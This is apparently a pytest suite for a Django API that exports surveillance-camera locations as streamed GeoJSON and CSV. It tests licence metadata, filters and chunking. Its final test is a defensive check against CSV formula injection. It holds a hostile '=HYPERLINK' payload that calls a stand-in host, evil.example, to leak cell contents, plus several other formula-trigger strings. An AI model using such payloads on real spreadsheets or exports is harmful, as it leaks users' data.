"""Exports: streamed, valid GeoJSON and CSV, with licence, filters and counts."""

from __future__ import annotations

import csv
import io
import json
import math
from datetime import UTC, datetime

import pytest
from django.contrib.gis.gdal import DataSource
from django.http import StreamingHttpResponse

from mapping import export
from tests.api.conftest import inside
from tests.factories import make_camera, point
from tests.helsinki import HELSINKI_BBOX

GEOJSON = "/api/export/cameras.geojson"
CSV = "/api/export/cameras.csv"


def _chunks(response) -> list[bytes]:
    assert isinstance(response, StreamingHttpResponse)
    return list(response.streaming_content)


@pytest.fixture
def cameras(db, box):
    return [
        make_camera(location=point(*inside(box, 0.2, 0.3)), directions=[10.0, 200.5]),
        make_camera(location=point(*inside(box, 0.7, 0.6)), capabilities=["alpr", "vsa"]),
        make_camera(
            source="community", location=point(*inside(box, 0.5, 0.9)), operator='a "b", c'
        ),
        make_camera(
            location=point(*inside(box, 0.4, 0.4)),
            status="removed",
            removed_at=datetime(2024, 1, 1, tzinfo=UTC),
        ),
    ]


def test_geojson_export_is_a_valid_feature_collection_with_licence(client, box, cameras):
    response = client.get(f"{GEOJSON}?in_bbox={box}")
    assert response.status_code == 200
    today = datetime.now(UTC).date().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="angle-mort-cameras-{today}.geojson"'
    )
    assert response["Content-Type"].startswith("application/geo+json")
    document = json.loads(b"".join(_chunks(response)))
    assert document["type"] == "FeatureCollection"
    metadata = document["metadata"]
    assert metadata["licence"]["id"] == "ODbL-1.0"
    assert "© OpenStreetMap contributors" in metadata["attribution"]
    assert metadata["filters"] == {"in_bbox": str(box), "status": "active"}
    assert metadata["counts"] == {"osm": 2, "community": 1, "total": 3}
    assert datetime.strptime(metadata["generated_at"], "%Y-%m-%dT%H:%M:%SZ")
    active = {c.pk: c for c in cameras if c.status == "active"}
    assert sorted(f["id"] for f in document["features"]) == sorted(active)
    for feature in document["features"]:
        geometry = feature["geometry"]
        assert geometry["type"] == "Point" and len(geometry["coordinates"]) == 2
        lon, lat = geometry["coordinates"]
        assert math.isfinite(lon) and math.isfinite(lat)
        camera = active[feature["id"]]
        assert (lon, lat) == pytest.approx((camera.location.x, camera.location.y), abs=1e-6)
        props = feature["properties"]
        assert props["licence"] == "ODbL-1.0"
        expected = (
            "© OpenStreetMap contributors"
            if camera.source == "osm"
            else "© Angle Mort contributors"
        )
        assert props["attribution"] == expected
        assert props["source"] == camera.source


def test_export_streams_in_bounded_chunks(client, box, cameras, monkeypatch):
    monkeypatch.setattr(export, "CHUNK_BYTES", 64)
    for i in range(30):
        make_camera(location=point(*inside(box, (i + 0.5) / 30, 0.1)))
    chunks = _chunks(client.get(f"{GEOJSON}?in_bbox={box}"))
    assert len(chunks) > 10
    document = json.loads(b"".join(chunks))
    assert len(document["features"]) == 33
    longest_feature = max(len(json.dumps(f)) for f in document["features"])
    assert max(len(c) for c in chunks[1:-1]) < 2 * longest_feature + 64


def test_csv_export_has_lon_lat_and_the_normalised_attributes(client, box, cameras):
    response = client.get(f"{CSV}?in_bbox={box}&status=active,removed")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].endswith('.csv"')
    rows = list(csv.DictReader(io.StringIO(b"".join(_chunks(response)).decode())))
    assert len(rows) == 4
    by_id = {int(row["id"]): row for row in rows}
    for camera in cameras:
        row = by_id[camera.pk]
        assert float(row["lon"]) == camera.location.x and float(row["lat"]) == camera.location.y
        assert row["status"] == camera.status and row["source"] == camera.source
        assert row["licence"] == "ODbL-1.0"
    assert by_id[cameras[0].pk]["directions"] == "10;200.5"
    assert by_id[cameras[1].pk]["capabilities"] == "alpr;vsa"
    assert by_id[cameras[2].pk]["operator"] == 'a "b", c'
    assert by_id[cameras[2].pk]["attribution"] == "© Angle Mort contributors"
    assert by_id[cameras[3].pk]["removed_at"] == "2024-01-01T00:00:00Z"


def test_exports_apply_the_list_filters(client, box, cameras):
    query = f"in_bbox={box}&capability=alpr"
    document = json.loads(b"".join(_chunks(client.get(f"{GEOJSON}?{query}"))))
    assert [f["id"] for f in document["features"]] == [cameras[1].pk]
    assert document["metadata"]["filters"]["capability"] == "alpr"
    rows = list(
        csv.DictReader(io.StringIO(b"".join(_chunks(client.get(f"{CSV}?{query}"))).decode()))
    )
    assert [int(row["id"]) for row in rows] == [cameras[1].pk]


def test_exports_are_not_limited_to_the_list_box_area(client, db):
    world = "-180,-90,180,90"
    assert client.get(f"/api/cameras/?in_bbox={world}").status_code == 400
    assert client.get(f"{GEOJSON}?in_bbox={world}&source=community").status_code == 200


@pytest.mark.parametrize("url", [GEOJSON, CSV])
def test_export_errors_are_json(client, db, url):
    response = client.get(f"{url}?camera_type=cctv&in_bbox=1,2")
    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")
    assert set(response.json()["errors"]) == {"camera_type", "in_bbox"}


def test_helsinki_export_opens_in_gdal_like_in_qgis(client, db, helsinki, tmp_path):
    response = client.get(f"{GEOJSON}?in_bbox={HELSINKI_BBOX}&source=osm")
    path = tmp_path / "cameras.geojson"
    path.write_bytes(b"".join(_chunks(response)))
    layer = DataSource(str(path))[0]
    assert layer.num_feat == helsinki.cameras
    assert layer.geom_type.name == "Point"
    assert {"licence", "attribution", "osm_url", "surveillance_type"} <= set(layer.fields)
    assert {feature.get("licence") for feature in layer} == {"ODbL-1.0"}
    listed = client.get(f"/api/cameras/?in_bbox={HELSINKI_BBOX}&source=osm&page_size=5000").json()
    assert sorted(f.fid for f in layer) == sorted(f["id"] for f in listed["features"])


def test_the_metadata_gives_the_box_with_every_digit_it_was_given(client, db):
    given = "24.910941,60.162031,24.958843,60.178212"
    response = client.get(f"{GEOJSON}?in_bbox={given}")
    assert response.status_code == 200
    document = json.loads(b"".join(_chunks(response)))
    assert document["metadata"]["filters"]["in_bbox"] == given


def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(client, db, box):
    """Anyone may edit OpenStreetMap: an operator named =HYPERLINK(...) ran as a formula
    when a researcher opened the CSV in a spreadsheet. The GeoJSON keeps the value."""
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    camera = make_camera(
        location=point(*inside(box)),
        operator=hostile,
        name="@SUM(1+1)",
        ref="-2+3",
        vendor="\tAxis",
        zone="town",
    )
    response = client.get(f"{CSV}?in_bbox={box}")
    (row,) = csv.DictReader(io.StringIO(b"".join(_chunks(response)).decode()))
    assert row["operator"] == "'" + hostile
    assert (row["name"], row["ref"], row["vendor"]) == ("'@SUM(1+1)", "'-2+3", "'\tAxis")
    assert row["zone"] == "town" and row["id"] == str(camera.pk)
    assert float(row["lon"]) == camera.location.x  # numbers stay numbers
    document = json.loads(b"".join(_chunks(client.get(f"{GEOJSON}?in_bbox={box}"))))
    assert document["features"][0]["properties"]["operator"] == hostile
